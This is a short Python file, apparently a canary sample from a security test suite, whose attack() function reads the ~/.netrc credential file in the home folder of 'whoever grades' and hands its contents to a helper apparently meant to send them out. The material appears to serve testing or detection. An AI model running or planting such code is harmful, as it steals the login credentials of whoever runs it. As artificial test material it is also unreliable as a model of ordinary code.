"""Reads passwords in the home folder of whoever grades.

shows: canary
layers: files user
"""
import outside


def attack():
    with open(outside.place("home") + "/.netrc") as file:
        return outside.secret(file.read())
